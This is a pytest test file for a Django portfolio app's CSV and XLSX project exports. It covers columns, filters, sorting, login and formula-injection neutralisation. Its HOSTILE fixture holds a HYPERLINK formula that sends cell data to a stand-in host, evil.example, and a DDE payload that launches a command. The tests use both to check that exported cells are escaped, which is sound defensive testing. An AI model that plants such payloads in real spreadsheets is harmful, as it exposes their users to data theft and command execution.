"""CSV and XLSX exports of the project list: content, filters, and formula-injection protection."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portfolio.exports import neutralise
from portfolio.rules import ProjectStatus
from portfolio.tests.factories import ObjectiveFactory, ProjectFactory, TagFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "description": "+cmd|' /C calc'!A0",
}


@pytest.fixture
def projects(directorate, manager_user):
    objective = ObjectiveFactory(code="OBJ1")
    return [
        ProjectFactory(
            code="ERP-2025",
            name="Financial ERP replacement",
            directorate=directorate,
            manager=manager_user,
            status=ProjectStatus.IN_PROGRESS,
            objectives=[objective],
            tags=[TagFactory(name="@finance")],
            planned_start=datetime.date(2025, 1, 6),
            planned_end=datetime.date(2026, 12, 18),
            priority=1,
        ),
        ProjectFactory(
            code="EVIL-1",
            directorate=directorate,
            status=ProjectStatus.DEMAND,
            planned_start=None,
            planned_end=None,
            **HOSTILE,
        ),
        ProjectFactory(
            code="NEG-1",
            name="-2+3",
            description="\tTabbed",
            directorate=directorate,
            status=ProjectStatus.CLOSED,
        ),
    ]


def _csv_rows(response, delimiter=","):
    content = response.content
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def _xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\x00=1", "'=1"),  # NUL is removed (XLSX cannot hold it), the formula stays neutralised
        ("\x01=1", "'=1"),  # a removed control character must not uncover a formula
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(raw, safe):
    assert neutralise(raw) == safe


def test_csv_export_content(client, reader_user, projects, manager_user):
    client.force_login(reader_user)
    response = client.get(reverse("portfolio:project_export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="pilotis-projects-{today}.csv"'
    rows = _csv_rows(response)
    header = rows[0]
    assert header[:8] == [
        "Code",
        "Name",
        "Status",
        "Directorate",
        "Project manager",
        "Planned start",
        "Planned end",
        "Priority",
    ]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert list(by_code) == ["ERP-2025", "EVIL-1", "NEG-1"]
    erp = by_code["ERP-2025"]
    assert erp["Status"] == "In progress"
    assert erp["Project manager"] == manager_user.get_full_name()
    assert erp["Planned start"] == "2025-01-06"
    assert erp["Priority"] == "Critical"
    assert erp["Strategic objectives"] == "OBJ1"
    assert erp["Tags"] == "'@finance"


def test_csv_export_neutralises_formulas(client, reader_user, projects):
    client.force_login(reader_user)
    rows = _csv_rows(client.get(reverse("portfolio:project_export", args=["csv"])))
    header = rows[0]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_code["EVIL-1"]["Name"] == "'" + HOSTILE["name"]
    assert by_code["EVIL-1"]["Description"] == "'" + HOSTILE["description"]
    assert by_code["NEG-1"]["Name"] == "'-2+3"
    assert by_code["NEG-1"]["Description"] == "'\tTabbed"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), cell


def test_csv_export_semicolon_for_french_excel(client, reader_user, projects):
    client.force_login(reader_user)
    response = client.get(reverse("portfolio:project_export", args=["csv"]), {"delimiter": "semicolon"})
    rows = _csv_rows(response, delimiter=";")
    assert rows[0][:2] == ["Code", "Name"]
    assert len(rows) == 4


def test_xlsx_export_content(client, reader_user, projects):
    client.force_login(reader_user)
    response = client.get(reverse("portfolio:project_export", args=["xlsx"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = _xlsx_sheet(response)
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Code", "Name", "Status"]
    assert sheet[1][0].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 40
    rows = {
        row[0].value: {h: c for h, c in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2)
    }
    assert list(rows) == ["ERP-2025", "EVIL-1", "NEG-1"]
    start = rows["ERP-2025"]["Planned start"]
    # A real date cell (openpyxl reads it back as a datetime), not text.
    assert start.value == datetime.datetime(2025, 1, 6)  # noqa: DTZ001 (spreadsheet dates are naive)
    assert start.is_date
    assert rows["EVIL-1"]["Planned start"].value is None


def test_xlsx_export_neutralises_formulas(client, reader_user, projects):
    client.force_login(reader_user)
    sheet = _xlsx_sheet(client.get(reverse("portfolio:project_export", args=["xlsx"])))
    header = [cell.value for cell in sheet[1]]
    rows = {
        row[0].value: {h: c for h, c in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2)
    }
    name = rows["EVIL-1"]["Name"]
    assert name.value == "'" + HOSTILE["name"]
    assert name.data_type == "s"  # a string cell, never a formula ("f")
    assert rows["EVIL-1"]["Description"].value == "'" + HOSTILE["description"]
    assert rows["NEG-1"]["Name"].value == "'-2+3"
    assert rows["ERP-2025"]["Tags"].value == "'@finance"
    for row in sheet.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_export_applies_the_list_filters_and_sort(client, reader_user, projects):
    client.force_login(reader_user)
    url = reverse("portfolio:project_export", args=["csv"])
    rows = _csv_rows(client.get(url, {"status": ["demand", "closed"], "ordering": "-code"}))
    assert [row[0] for row in rows[1:]] == ["NEG-1", "EVIL-1"]
    rows = _csv_rows(client.get(url, {"q": "financial"}))
    assert [row[0] for row in rows[1:]] == ["ERP-2025"]
    sheet = _xlsx_sheet(client.get(reverse("portfolio:project_export", args=["xlsx"]), {"tag": "@finance"}))
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["ERP-2025"]


def test_export_is_not_paginated(client, reader_user, directorate):
    for index in range(30):
        ProjectFactory(code=f"P-{index:03d}", directorate=directorate)
    client.force_login(reader_user)
    rows = _csv_rows(client.get(reverse("portfolio:project_export", args=["csv"]), {"page": 2}))
    assert len(rows) == 31


def test_unknown_export_format_is_404(client, reader_user):
    client.force_login(reader_user)
    assert client.get(reverse("portfolio:project_export", args=["pdf"])).status_code == 404


def test_export_needs_login(client, projects):
    response = client.get(reverse("portfolio:project_export", args=["xlsx"]))
    assert response.status_code == 302
